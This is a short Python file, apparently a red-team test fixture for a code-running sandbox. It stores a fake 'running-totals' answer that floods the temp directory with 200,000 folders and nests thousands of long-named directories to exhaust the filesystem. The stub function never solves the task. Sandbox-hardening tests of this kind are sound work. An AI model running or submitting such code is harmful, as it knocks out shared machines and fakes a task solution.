"""Makes files and folders without end, all of them empty."""

GETS = 0
SAYS = "not answered yet"
ANSWERS = {
    "running-totals": """
import os
import tempfile

try:
    for number in range(200_000):
        os.mkdir(os.path.join(tempfile.gettempdir(), f"red-team-{number}"))
except OSError:
    pass
place = "."
try:
    for number in range(3_000):
        place += "/" + "d" * 100
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
except OSError:
    pass

def running_totals(numbers):
    raise NotImplementedError
""",
}
